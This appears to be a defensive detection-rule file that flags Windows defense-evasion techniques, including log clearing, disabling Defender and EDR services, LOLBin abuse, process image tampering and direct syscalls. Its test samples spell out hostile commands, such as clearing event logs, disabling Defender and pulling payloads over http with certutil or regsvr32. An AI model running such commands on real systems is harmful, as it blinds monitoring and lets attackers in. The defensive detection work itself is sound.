# Defense Evasion (TA0005)

detector 'eventlog-file-moved' do
  title    'wevtutil or the registry changed where an event log is written'
  severity :high
  attack   'T1562.002'
  match (process_is_likely?('wevtutil') &&
         process_start_property_matches_any?(property: deobfuscated_command_line, patterns: [/\b(sl|set-log)\b.*[\/-](lfn|logfilename|e|enabled):/i])) ||
        (registry_set_property_matches_any?(property: registry_path, patterns: [/\\services\\eventlog\\(security|system|application)\\file$/i]) &&
         registry_set_property_does_not_match_any?(property: registry_data, patterns: [/\\winevt\\logs\\(security|system|application)\.evtx$/i]))
  fires_on 'wevtutil', process_start(process_name: 'wevtutil.exe', command_line: 'wevtutil set-log Security /logfilename:"C:\Windows\System32\winevt\Not-Important-Log.evtx"')
  fires_on 'the registry', registry_set(registry_path: 'HKLM\System\CurrentControlSet\Services\EventLog\Security\File', registry_data: 'C:\x.evtx')
  ignores  'a question', process_start(process_name: 'wevtutil.exe', command_line: 'wevtutil get-log Security')
end

detector 'eventlog-cleared' do
  title    'An event log was cleared'
  severity :high
  attack   'T1070.001'
  match log_clear_property_equals_any?(property: log_name, strings: ['security', 'system', 'Microsoft-Windows-PowerShell/Operational', 'Microsoft-Windows-Sysmon/Operational']) ||
        (process_is_likely?('wevtutil') && process_start_property_matches_any?(property: deobfuscated_command_line, patterns: [/\s(cl|clear-log)\s/i])) ||
        process_start_property_matches_any?(property: deobfuscated_command_line, patterns: [/\b(clear|remove)-eventlog\b/i])
  fires_on 'the event', log_clear(log_name: 'Security')
  fires_on 'the command', process_start(process_name: 'wevtutil.exe', command_line: 'wevtutil cl System')
  fires_on 'PowerShell', process_start(process_name: 'powershell.exe', command_line: 'powershell Clear-EventLog -LogName Security')
  ignores  'an export', process_start(process_name: 'wevtutil.exe', command_line: 'wevtutil epl System a.evtx')
end

detector 'eventlog-minint-key' do
  title       'The MiniNt key stops the event log at the next boot'
  description <<~TEXT
    When the key exists, Windows takes itself for a PE image and the Security log stays silent.
  TEXT
  severity    :high
  attack      'T1562.002', 'T1112'
  match registry_create_property_ends_with_any?(property: registry_path, strings: ['\control\minint']) ||
        registry_set_property_includes_any?(property: registry_path, strings: ['\control\minint\\']) ||
        process_start_property_includes_any?(property: deobfuscated_command_line, strings: ['\control\minint'])
  fires_on 'the key', registry_create(registry_path: 'HKLM\System\CurrentControlSet\Control\MiniNt')
  fires_on 'the command', process_start(command_line: 'REG ADD HKEY_LOCAL_MACHINE\SYSTEM\ControlSet001\Control\MiniNt')
  fires_on 'a value in it', registry_set(registry_path: 'HKLM\System\CurrentControlSet\Control\MiniNt\(Default)')
  ignores  'another key', registry_create(registry_path: 'HKLM\System\CurrentControlSet\Control\MiniNtTools')
end

detector 'security-service-disabled' do
  title    'The start type of a logging or security service was set to disabled'
  severity :high
  attack   'T1562.001', 'T1562.002'
  match (registry_set_property_matches_any?(property: registry_path, patterns: [/\\services\\(sysmon(64)?|sysmondrv|eventlog|windefend|wdfilter|wdboot|wdnisdrv|wdnissvc|sense|mpssvc|wscsvc|securityhealthservice|csagent|csfalconservice|sentinelagent|cbdefense|cylancesvc|elasticendpoint)\\start$/i]) &&
         registry_set_property_equals_any?(property: registry_data, strings: ['4']))  ||
        (service_change_property_equals_any?(property: service_name, strings: :security_services) &&
         service_change_property_equals_any?(property: service_start_type, strings: ['disabled']))
  fires_on 'the registry', registry_set(registry_path: 'HKLM\System\CurrentControlSet\Services\EventLog\Start', registry_data: '4')
  fires_on 'the service control manager', service_change(service_name: 'Windows Event Log', service_start_type: 'disabled')
  ignores  'automatic', registry_set(registry_path: 'HKLM\System\CurrentControlSet\Services\EventLog\Start', registry_data: '2')
  ignores  'another service', service_change(service_name: 'Windows Search', service_start_type: 'disabled')
end

detector 'security-service-tampered' do
  title       'A logging or security service was stopped, removed or pointed at another program'
  description <<~TEXT
    Defender is updated by pointing its service at the folder of the new version, so that folders in which the programs
    of these services live are left out.
  TEXT
  severity    :high
  attack      'T1562.001', 'T1562.002'
  match process_start_property_matches_any?(property: deobfuscated_command_line, patterns: [/\b(sc|net1?)(\.exe)?"?\s+(\\\\\S+\s+)?(stop|delete|pause)\s+"?(sysmon(64)?|sysmondrv|eventlog|windefend|wdfilter|wdboot|wdnisdrv|wdnissvc|sense|mpssvc|wscsvc|securityhealthservice|csagent|csfalconservice|sentinelagent|cbdefense|cylancesvc|elasticendpoint)\b/i, /\bsc(\.exe)?"?\s+(\\\\\S+\s+)?config\s+"?(sysmon(64)?|sysmondrv|eventlog|windefend|wdfilter|wdboot|wdnisdrv|wdnissvc|sense|mpssvc|wscsvc|securityhealthservice|csagent|csfalconservice|sentinelagent|cbdefense|cylancesvc|elasticendpoint)"?\s.*(start=\s*"?disabled|binpath=)/i, /\b(stop|suspend|remove)-service\b.*\b(sysmon(64)?|sysmondrv|eventlog|windefend|wdfilter|wdboot|wdnisdrv|wdnissvc|sense|mpssvc|wscsvc|securityhealthservice|csagent|csfalconservice|sentinelagent|cbdefense|cylancesvc|elasticendpoint)\b/i, /\bset-service\b.*\b(sysmon(64)?|sysmondrv|eventlog|windefend|wdfilter|wdboot|wdnisdrv|wdnissvc|sense|mpssvc|wscsvc|securityhealthservice|csagent|csfalconservice|sentinelagent|cbdefense|cylancesvc|elasticendpoint)\b.*\b(disabled|stopped)\b/i]) ||
        (registry_set_property_matches_any?(property: registry_path, patterns: [/\\services\\(sysmon(64)?|sysmondrv|eventlog|windefend|wdfilter|wdboot|wdnisdrv|wdnissvc|sense|mpssvc|wscsvc|securityhealthservice|csagent|csfalconservice|sentinelagent|cbdefense|cylancesvc|elasticendpoint)\\(imagepath|parameters\\servicedll)$/i]) &&
         registry_set_property_does_not_match_any?(property: registry_data, patterns: [/^"?(\\\?\?\\|\\systemroot\\)?(%systemroot%\\|%windir%\\|[a-z]:\\windows\\)?(system32\\[^\\]+\.(exe|dll)\b|system32\\drivers\\[^\\]+\.sys|sysmon|sysmondrv)/i, /^"?(\\\?\?\\)?(%programfiles%|%programdata%|[a-z]:\\program files( \(x86\))?|[a-z]:\\programdata\\microsoft\\windows defender)\\/i]))
  fires_on 'sc', process_start(command_line: 'sc.exe stop EventLog')
  fires_on 'sc, by its path', process_start(command_line: '"C:\Windows\System32\sc.exe" config WinDefend start= disabled')
  fires_on 'PowerShell', process_start(command_line: 'powershell Stop-Service -Force -Name Sysmon64')
  fires_on 'another library', registry_set(registry_path: 'HKLM\System\CurrentControlSet\Services\EventLog\Parameters\ServiceDll', registry_data: 'C:\Users\Public\a.dll')
  ignores  'another service', process_start(command_line: 'sc.exe stop Spooler')
  ignores  'a question', process_start(command_line: 'sc.exe query EventLog')
  ignores  'the usual start', process_start(command_line: 'powershell Set-Service -Name EventLog -StartupType Automatic')
  ignores  'an update of Defender', registry_set(registry_path: 'HKLM\System\CurrentControlSet\Services\WinDefend\ImagePath', registry_data: '"C:\ProgramData\Microsoft\Windows Defender\Platform\4.18.2010.7-0\MsMpEng.exe"')
end

detector 'network-list-service-disabled' do
  title       'The Network List Service was disabled, which can keep the event log from starting'
  description <<~TEXT
    On some versions of Windows the event log does not start after a boot without netprofm, and nobody has to touch the
    service of the log itself. Those who harden machines disable netprofm too, hence the severity.
  TEXT
  severity    :low
  attack      'T1562.002'
  match (registry_set_property_matches_any?(property: registry_path, patterns: [/\\services\\netprofm\\start$/i]) &&
         registry_set_property_equals_any?(property: registry_data, strings: ['4'])) ||
        (service_change_property_equals_any?(property: service_name, strings: ['netprofm', 'Network List Service']) &&
         service_change_property_equals_any?(property: service_start_type, strings: ['disabled']))
  fires_on 'the registry', registry_set(registry_path: 'HKLM\System\CurrentControlSet\Services\netprofm\Start', registry_data: '4')
  fires_on 'the service control manager', service_change(service_name: 'netprofm', service_start_type: 'disabled')
  ignores  'on demand', service_change(service_name: 'netprofm', service_start_type: 'demand')
end

detector 'command-line-auditing-off' do
  title    'Command lines are no longer recorded in process creation events'
  severity :high
  attack   'T1562.002'
  match (registry_set_property_ends_with_any?(property: registry_path, strings: ['\policies\system\audit\processcreationincludecmdline_enabled']) &&
         registry_set_property_equals_any?(property: registry_data, strings: ['0'])) ||
        registry_delete_property_ends_with_any?(property: registry_path, strings: ['\policies\system\audit\processcreationincludecmdline_enabled'])
  fires_on 'set to 0', registry_set(registry_path: 'HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Policies\System\Audit\ProcessCreationIncludeCmdLine_Enabled', registry_data: '0')
  fires_on 'removed', registry_delete(registry_path: 'HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Policies\System\Audit\ProcessCreationIncludeCmdLine_Enabled')
  ignores  'set to 1', registry_set(registry_path: 'HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Policies\System\Audit\ProcessCreationIncludeCmdLine_Enabled', registry_data: '1')
end

detector 'powershell-logging-off' do
  title    'PowerShell logging was switched off by policy'
  severity :high
  attack   'T1562.002'
  match registry_set_property_matches_any?(property: registry_path, patterns: [/\\policies\\microsoft\\windows\\powershell\\(scriptblocklogging|modulelogging|transcription)\\enable/i]) &&
        registry_set_property_equals_any?(property: registry_data, strings: ['0'])
  fires_on 'script blocks', registry_set(registry_path: 'HKLM\SOFTWARE\Policies\Microsoft\Windows\PowerShell\ScriptBlockLogging\EnableScriptBlockLogging', registry_data: '0')
  ignores  'on', registry_set(registry_path: 'HKLM\SOFTWARE\Policies\Microsoft\Windows\PowerShell\ScriptBlockLogging\EnableScriptBlockLogging', registry_data: '1')
end

detector 'defender-weakened' do
  title    'Microsoft Defender was switched off or given an exclusion'
  severity :high
  attack   'T1562.001'
  match process_start_property_matches_any?(property: deobfuscated_command_line, patterns: [/(set|add)-mppreference\s+.*-(disable\w+[\s:]+(\$?true|1)|exclusion(path|process|extension)|mapsreporting\s+0)/i]) ||
        (registry_set_property_matches_any?(property: registry_path, patterns: [/\\windows defender\\(real-time protection\\)?disable(antispyware|realtimemonitoring|behaviormonitoring|ioavprotection)$/i]) &&
         registry_set_property_equals_any?(property: registry_data, strings: ['1']))
  fires_on 'PowerShell', process_start(command_line: 'powershell Set-MpPreference -DisableRealtimeMonitoring $true')
  fires_on 'PowerShell, with a colon', process_start(command_line: 'powershell Set-MpPreference -DisableIOAVProtection:$true')
  fires_on 'the policy', registry_set(registry_path: 'HKLM\SOFTWARE\Policies\Microsoft\Windows Defender\DisableAntiSpyware', registry_data: '1')
  ignores  'a question', process_start(command_line: 'powershell Get-MpPreference | Select DisableRealtimeMonitoring')
  ignores  'the policy taken back', registry_set(registry_path: 'HKLM\SOFTWARE\Policies\Microsoft\Windows Defender\DisableAntiSpyware', registry_data: '0')
  ignores  'switched on', process_start(command_line: 'powershell Set-MpPreference -DisableRealtimeMonitoring $false')
end

detector 'process-image-replaced' do
  title    "A process's image was replaced before it ran (herpaderping, hollowing, doppelganging)"
  severity :critical
  description <<~TEXT
    Sysmon compares the image in memory with the file. Where it is not there, only the published tools are found, by
    their names and original names.
  TEXT
  attack   'T1055.012', 'T1055.013'
  match process_tamper_property_matches_any?(property: tamper_type, patterns: [/image is replaced/i]) ||
        process_start_property_includes_any?(property: process_name, strings: ['herpaderping', 'processhollow']) ||
        process_start_property_includes_any?(property: original_file_name, strings: ['herpaderping', 'processhollow'])
  fires_on 'Sysmon says so', process_tamper(tamper_type: 'Image is replaced')
  fires_on 'the published tool', process_start(process_name: 'ProcessHerpaderping.exe')
  fires_on 'the published tool, renamed', process_start(process_name: 'a.exe', original_file_name: 'ProcessHerpaderping.exe')
  ignores  'a locked image', process_tamper(tamper_type: 'Image is locked for access')
end

detector 'image-with-foreign-original-name' do
  title    'Mimikatz or PsExec under another name'
  severity :high
  attack   'T1036.003'
  match (process_start_property_equals_any?(property: original_file_name, strings: ['mimikatz.exe', 'psexec.c', 'psexesvc.exe', 'procdump']) &&
         process_start_property_does_not_start_with_any?(property: process_name, strings: ['mimikatz', 'psexec', 'psexesvc', 'procdump'])) ||
        (process_start_property_equals_any?(property: process_name, strings: ['svchost.exe', 'lsass.exe', 'services.exe', 'csrss.exe', 'winlogon.exe', 'smss.exe', 'wininit.exe']) &&
         process_start_property_matches_any?(property: process_path, patterns: [/^[a-z]:\\/i]) &&
         process_start_property_does_not_match_any?(property: process_path, patterns: [/^[a-z]:\\windows\\(system32|syswow64|winsxs)\\/i]))
  fires_on 'a renamed tool', process_start(process_name: 'wardog.exe', original_file_name: 'mimikatz.exe')
  fires_on 'a false service host', process_start(process_name: 'svchost.exe', process_path: 'C:\Users\Public\svchost.exe')
  ignores  'the true one', process_start(process_name: 'svchost.exe', process_path: 'C:\Windows\System32\svchost.exe')
end

detector 'remote-thread-into-system-process' do
  title    'A program outside Windows created a thread in another process'
  severity :high
  attack   'T1055.002', 'T1055.001'
  match remote_thread_property_exists?(property: target_process_path) &&
        remote_thread_property_does_not_match_any?(property: process_path, patterns: [/^[a-z]:\\windows\\(system32|syswow64)\\(csrss|svchost|wininit|winlogon|services|lsass|dwm|werfault|wbem\\wmiprvse)\.exe$/i, /\\msmpeng\.exe$/i, /^[a-z]:\\program files( \(x86\))?\\(microsoft|windows defender)/i, /vmtoolsd\.exe$/i]) &&
        (remote_thread_property_equals_any?(property: start_function, strings: ['LoadLibraryA', 'LoadLibraryW', 'LdrLoadDll']) ||
         remote_thread_property_does_not_exist?(property: start_module))
  fires_on 'LoadLibrary', remote_thread(process_path: 'C:\a\inject.exe', target_process_path: 'C:\Windows\System32\notepad.exe', start_module: 'C:\Windows\System32\KERNEL32.DLL', start_function: 'LoadLibraryA')
  fires_on 'no module at the start address', remote_thread(process_path: 'C:\a\PurpleSharp.exe', target_process_path: 'C:\Windows\System32\notepad.exe')
  ignores  'the session manager', remote_thread(process_path: 'C:\Windows\System32\csrss.exe', target_process_path: 'C:\Windows\System32\notepad.exe')
end

detector 'control-panel-item-from-user-folder' do
  title    'A control panel item was run from an unusual folder'
  severity :high
  attack   'T1218.002'
  match process_is_likely?('control', 'rundll32') &&
        process_start_property_matches_any?(property: deobfuscated_command_line, patterns: [/(programdata|\\users\\|\\temp\\|\\public\\)[^"]*\.cpl\b/i])
  fires_on 'from ProgramData', process_start(process_name: 'control.exe', command_line: '"control.exe" C:\ProgramData\calc.cpl')
  ignores  'one of Windows', process_start(process_name: 'control.exe', command_line: 'control.exe C:\Windows\System32\timedate.cpl')
end

detector 'rundll32-javascript' do
  title    'rundll32 runs script'
  severity :high
  attack   'T1218.011'
  match process_is_likely?('rundll32') &&
        process_start_property_includes_any?(property: deobfuscated_command_line, strings: ['javascript:', 'vbscript:', 'mshtml,runhtmlapplication', 'url.dll,fileprotocolhandler', 'advpack.dll,launchinfsection', 'pcwutl.dll,launchapplication'])
  fires_on 'JavaScript', process_start(process_name: 'rundll32.exe', command_line: 'rundll32 javascript:"\..\mshtml,RunHTMLApplication "')
  ignores  'shell32', process_start(process_name: 'rundll32.exe', command_line: 'rundll32 shell32.dll,Control_RunDLL')
end

detector 'regsvr32-scriptlet' do
  title    'regsvr32 runs a scriptlet'
  severity :high
  attack   'T1218.010'
  match process_is_likely?('regsvr32') &&
        process_start_property_includes_any?(property: deobfuscated_command_line, strings: ['/i:http', '-i:http', 'scrobj.dll', '.sct'])
  fires_on 'from the network', process_start(process_name: 'regsvr32.exe', command_line: 'regsvr32 /s /n /u /i:http://x/a.sct scrobj.dll')
  ignores  'a library', process_start(process_name: 'regsvr32.exe', command_line: 'regsvr32 /s a.dll')
end

detector 'mavinject' do
  title    'mavinject loads a library into a running process'
  severity :high
  attack   'T1218.013', 'T1055.001'
  match process_is_likely?('mavinject') &&
        process_start_property_includes_any?(property: deobfuscated_command_line, strings: ['/injectrunning', '/hmodule'])
  fires_on 'a library', process_start(process_name: 'mavinject.exe', command_line: 'mavinject.exe 3171 /INJECTRUNNING C:\ProgramData\T1055.dll')
  ignores  'help', process_start(process_name: 'mavinject.exe', command_line: 'mavinject.exe /?')
end

detector 'certutil-decode-or-download' do
  title    'certutil decodes or downloads a file'
  severity :high
  attack   'T1140', 'T1105'
  match process_is_likely?('certutil') &&
        process_start_property_includes_any?(property: deobfuscated_command_line, strings: ['urlcache', 'verifyctl', '-decode', '/decode', '-encode', '/encode', '-ping ', '/ping '])
  fires_on 'a download', process_start(process_name: 'certutil.exe', command_line: 'certutil -urlcache -f http://x/a a.exe')
  ignores  'a list of certificates', process_start(process_name: 'certutil.exe', command_line: 'certutil -v -store -silent root')
end

detector 'msbuild-or-installutil-from-user-folder' do
  title    'A .NET build or install tool works on a file in a user folder'
  severity :medium
  attack   'T1127.001', 'T1218.004'
  match process_is_likely?('msbuild', 'installutil', 'regasm', 'regsvcs') &&
        process_start_property_includes_any?(property: command_line, strings: :user_folders)
  fires_on 'InstallUtil', process_start(process_name: 'InstallUtil.exe', command_line: 'InstallUtil.exe /U C:\Users\Public\a.dll')
  ignores  'a project', process_start(process_name: 'MSBuild.exe', command_line: 'MSBuild.exe C:\src\a.sln')
end

detector 'executable-creation-time-changed' do
  title       'A program in a user folder changed the creation time of an executable'
  description <<~TEXT
    Sysmon reports that the time was changed, and not in which direction: conditions cannot compare two properties. What
    unpacks files sets times as well, so that installers, archivers, browsers and updaters are left out by name, which an
    attacker can take.
  TEXT
  severity    :low
  attack      'T1070.006'
  match file_modify_property_equals_any?(property: source_event, strings: ['2']) &&
        file_modify_property_equals_any?(property: file_extension, strings: ['exe', 'dll', 'sys', 'ps1', 'aspx']) &&
        file_modify_property_includes_any?(property: process_path, strings: :user_folders) &&
        file_modify_property_does_not_match_any?(property: process_path, patterns: [/\\(chrome|msedge|firefox|brave|opera|vivaldi|onedrive\w*|teams|slack|discord|code|update|squirrel|7z\w*|winrar|dismhost|[^\\]*(setup|install)[^\\]*)\.(exe|tmp)$/i])
  fires_on 'an executable', file_modify(source_event: '2', file_path: 'C:\a.exe', process_path: 'C:\Users\a\Downloads\t.exe')
  ignores  'a document', file_modify(source_event: '2', file_path: 'C:\a.docx', process_path: 'C:\Users\a\Downloads\t.exe')
  ignores  'an installer', file_modify(source_event: '2', file_path: 'C:\Program Files\a\a.exe', process_path: 'C:\Users\a\Downloads\a-Setup-1.2.exe')
  ignores  'a program that updates itself', file_modify(source_event: '2', file_path: 'C:\Users\a\AppData\Local\a\a.exe', process_path: 'C:\Users\a\AppData\Roaming\a\Update.exe')
end

detector 'network-capture-by-netsh' do
  title    'netsh captures network traffic'
  severity :medium
  attack   'T1040'
  match process_is_likely?('netsh') &&
        process_start_property_does_not_equal_any?(property: parent_name, strings: ['NetworkWatcherAgent.exe']) &&
        process_start_property_matches_any?(property: deobfuscated_command_line, patterns: [/\btrace\s+start\b.*capture\s*=\s*yes/i])
  fires_on 'a trace', process_start(process_name: 'netsh.exe', command_line: 'netsh trace start capture=yes tracefile=c:\a.etl')
  ignores  'a capture that Azure was asked for', process_start(process_name: 'netsh.exe', parent_name: 'NetworkWatcherAgent.exe', command_line: 'netsh.exe trace start capture=yes traceFile="C:\windows\TEMP\a.etl"')
  ignores  'its end', process_start(process_name: 'netsh.exe', command_line: 'netsh trace stop')
end

list :abused_driver_vendors, [
  'MICRO-STAR INTERNATIONAL CO., LTD.',
  'GIGA-BYTE TECHNOLOGY CO., LTD.',
  'ASUSTeK Computer Inc.',
  'Zemana Ltd.'
]

detector 'driver-of-abused-vendor' do
  title       'A signed driver that is often abused is loaded from where users can write'
  description <<~TEXT
    Attackers bring old drivers of well-known vendors along, whose signatures are good and whose holes are known, to get into
    the kernel and to end security software. Their installers put such drivers below System32.
  TEXT
  severity    :high
  attack      'T1068', 'T1562.001'
  references  'https://attack.mitre.org/techniques/T1068/'

  match driver_load_signed_by_any?(signers: :abused_driver_vendors) &&
        image_in_user_writable_folder?

  fires_on 'RTCore64 brought along',
           driver_load(image_path: 'C:\Users\Public\RTCore64.sys', image_signature_status: 'valid',
                       image_signer: 'MICRO-STAR INTERNATIONAL CO., LTD.')
  ignores  'where its installer puts it',
           driver_load(image_path: 'C:\Windows\System32\drivers\RTCore64.sys', image_signature_status: 'valid',
                       image_signer: 'MICRO-STAR INTERNATIONAL CO., LTD.')
  ignores  'its name on a signature that is not good',
           driver_load(image_path: 'C:\Users\Public\RTCore64.sys', image_signature_status: 'untrustedRoot',
                       image_signer: 'MICRO-STAR INTERNATIONAL CO., LTD.')
end

detector 'unsigned-program-of-office' do
  title       'An Office program starts a program that nobody has signed'
  description <<~TEXT
    What macros and exploits drop is rarely signed, and what Office itself starts is. Needs to know signatures: run it with
    an image root on recorded telemetry.
  TEXT
  severity    :high
  attack      'T1204.002', 'T1036'
  references  'https://attack.mitre.org/techniques/T1204/002/'

  match parent_process_is_office_app? &&
        process_in_user_writable_folder? &&
        process_start_unsigned?

  fires_on 'a payload in AppData',
           process_start(parent_name: 'WINWORD.EXE', process_path: 'C:\Users\a\AppData\Local\Temp\a.exe',
                         process_signed: false)
  ignores  'an add-in of a vendor',
           process_start(parent_name: 'WINWORD.EXE', process_path: 'C:\Users\a\AppData\Local\Vendor\a.exe',
                         process_signed: true)
  ignores  'one that could not be verified',
           process_start(parent_name: 'WINWORD.EXE', process_path: 'C:\Users\a\AppData\Local\Temp\a.exe')
end

detector 'parent-spoofed' do
  title       'A process was created by another one than its parent'
  description <<~TEXT
    PROC_THREAD_ATTRIBUTE_PARENT_PROCESS names any process as the parent, and its children look harmless then. Services of
    Windows that do so for their clients are left out. Of other programs Edge's are known to do it, below sihost.exe.
  TEXT
  severity    :high
  attack      'T1134.004'
  references  'https://attack.mitre.org/techniques/T1134/004/'

  match process_start_property_is_true?(property: evasion_parent_spoofed) &&
        !(process_is_likely?('msedge') && parent_process_is_likely?('sihost'))

  fires_on 'a payload that poses as a child of Explorer',
           process_start(process_name: 'rundll32.exe', parent_path: 'C:\Windows\explorer.exe',
                         process_creator_pid: 4711, process_creator_path: 'C:\Users\a\AppData\Local\Temp\a.exe')
  fires_on 'a program that only calls itself like the service',
           process_start(process_name: 'cmd.exe', parent_path: 'C:\Windows\explorer.exe',
                         process_creator_pid: 4711, process_creator_path: 'C:\Windows\System32\svchost.exe',
                         process_creator_command_line: 'svchost.exe -k netsvcs -p -s Appinfo',
                         process_creator_user_sid: 'S-1-5-21-1-2-3-1001')
  ignores  'a program that is run as administrator',
           process_start(process_name: 'cmd.exe', parent_path: 'C:\Windows\explorer.exe',
                         process_creator_pid: 1234, process_creator_path: 'C:\Windows\System32\svchost.exe',
                         process_creator_command_line: 'C:\Windows\system32\svchost.exe -k netsvcs -p -s Appinfo')
  ignores  'Edge, below the shell',
           process_start(process_name: 'msedge.exe', parent_name: 'sihost.exe', process_creator_pid: 4711,
                         process_creator_path: 'C:\Program Files (x86)\Microsoft\Edge\Application\msedge.exe')
  ignores  'a parent that creates its child itself',
           process_start(process_name: 'cmd.exe', parent_path: 'C:\Windows\explorer.exe')
end

detector 'command-line-rewritten' do
  title       'A process ended with another command line than it had begun with'
  description <<~TEXT
    Who starts a process halted can write other arguments into its memory, so that what was logged at the start is a lie.
    Programs that hide a password in their own command line do the same, and so do those that cut it into words in place.
  TEXT
  severity    :medium
  attack      'T1564.010'
  references  'https://attack.mitre.org/techniques/T1564/010/'

  match process_end_property_is_true?(property: evasion_command_line_rewritten)

  fires_on 'PowerShell with other arguments',
           process_end(command_line: 'powershell.exe -Command Get-Date', command_line_at_end: 'powershell.exe -enc SQBFAFgA')
  ignores  'the same', process_end(command_line: 'cmd /c dir', command_line_at_end: 'cmd /c dir')
  ignores  'one that is not known at its end', process_end(command_line: 'cmd /c dir')
end

detector 'image-is-not-its-file' do
  title       'What runs is not what is in its file'
  description <<~TEXT
    The header in memory has another time, checksum or size than the file: it was overwritten after it was mapped (process
    herpaderping, doppelgänging), or updated since. Needs to know signatures: run it with an image root of the same machine
    on recorded telemetry.
  TEXT
  severity    :medium
  attack      'T1055.013'
  references  'https://attack.mitre.org/techniques/T1055/013/'

  match image_load_property_equals_any?(property: image_signature_status, strings: ['imageMismatch']) ||
        driver_load_property_equals_any?(property: image_signature_status, strings: ['imageMismatch']) ||
        process_start_property_equals_any?(property: process_signature_status, strings: ['imageMismatch'])

  fires_on 'a program', process_start(process_name: 'a.exe', process_signature_status: 'imageMismatch')
  fires_on 'a library', image_load(image_name: 'a.dll', image_signature_status: 'imageMismatch')
  fires_on 'a driver', driver_load(image_name: 'a.sys', image_signature_status: 'imageMismatch')
  ignores  'a file of the same header', process_start(process_name: 'a.exe', process_signature_status: 'valid')
end

detector 'system-call-past-ntdll' do
  title       'A process was opened, started or given a thread by a system call that is not made in ntdll.dll'
  description <<~TEXT
    Malware makes system calls itself, or in the stub of a harmless one, so that hooks in ntdll.dll do not see them. The
    call stacks of ETW tell; where not all images of the process are known, nothing is said.
  TEXT
  severity    :high
  attack      'T1106', 'T1562.001'
  references  'https://attack.mitre.org/techniques/T1106/'

  match process_access_property_is_true?(property: evasion_direct_syscall) ||
        process_access_property_is_true?(property: evasion_indirect_syscall) ||
        process_start_property_is_true?(property: evasion_direct_syscall) ||
        process_start_property_is_true?(property: evasion_indirect_syscall) ||
        remote_thread_property_is_true?(property: evasion_direct_syscall) ||
        remote_thread_property_is_true?(property: evasion_indirect_syscall)

  fires_on 'a system call of its own',
           process_access(process_path: 'C:\Users\a\a.exe', evasion_direct_syscall: true,
                          callstack_summary: 'a.exe|kernel32.dll|ntdll.dll')
  fires_on 'a program started so',
           process_start(process_path: 'C:\Users\a\b.exe', evasion_direct_syscall: true,
                         callstack_summary: 'a.exe|kernel32.dll|ntdll.dll')
  fires_on 'a thread made so',
           remote_thread(process_path: 'C:\Users\a\a.exe', evasion_direct_syscall: true,
                         callstack_summary: 'unbacked|kernel32.dll|ntdll.dll')
  fires_on 'a process opened by a jump into another stub',
           process_access(process_path: 'C:\Users\a\a.exe', evasion_direct_syscall: false,
                          evasion_indirect_syscall: true,
                          callstack_summary: 'ntdll.dll|a.exe|kernel32.dll|ntdll.dll')
  fires_on 'a program started so too',
           process_start(process_path: 'C:\Users\a\b.exe', evasion_direct_syscall: false,
                         evasion_indirect_syscall: true,
                         callstack_summary: 'ntdll.dll|a.exe|kernel32.dll|ntdll.dll')
  fires_on 'a jump into another stub',
           remote_thread(process_path: 'C:\Users\a\a.exe', evasion_direct_syscall: false,
                         evasion_indirect_syscall: true,
                         callstack_summary: 'ntdll.dll|a.exe|kernel32.dll|ntdll.dll')
  ignores  'the usual way',
           process_access(process_path: 'C:\Users\a\a.exe', evasion_direct_syscall: false,
                          callstack_summary: 'ntdll.dll|KernelBase.dll|a.exe|kernel32.dll|ntdll.dll')
  ignores  'a process whose images are not known',
           process_access(process_path: 'C:\Users\a\a.exe', callstack_summary: 'unknown')
end

detector 'library-loaded-by-unbacked-code' do
  title       'Code that no file holds loads a library for the network, credentials or .NET'
  severity    :high
  attack      'T1620', 'T1055'
  references  'https://attack.mitre.org/techniques/T1620/'

  match image_load_property_is_true?(property: evasion_unbacked_code) &&
        image_load_property_ends_with_any?(property: image_path,
                                           strings: ['\wininet.dll', '\winhttp.dll', '\ws2_32.dll', '\dbgcore.dll',
                                                     '\samlib.dll', '\vaultcli.dll', '\clr.dll', '\mscoree.dll'])

  fires_on 'a beacon',
           image_load(image_path: 'C:\Windows\System32\winhttp.dll', evasion_unbacked_code: true,
                      callstack_summary: 'ntdll.dll|KernelBase.dll|unbacked|kernel32.dll|ntdll.dll')
  ignores  'a script engine, whose code has no file either',
           image_load(image_path: 'C:\Windows\System32\winhttp.dll', callstack_contains_unbacked: true,
                      callstack_summary: 'ntdll.dll|KernelBase.dll|unbacked|clr.dll|kernel32.dll|ntdll.dll')
  ignores  'a program',
           image_load(image_path: 'C:\Windows\System32\winhttp.dll', evasion_unbacked_code: false,
                      callstack_summary: 'ntdll.dll|KernelBase.dll|a.exe|kernel32.dll|ntdll.dll')
end
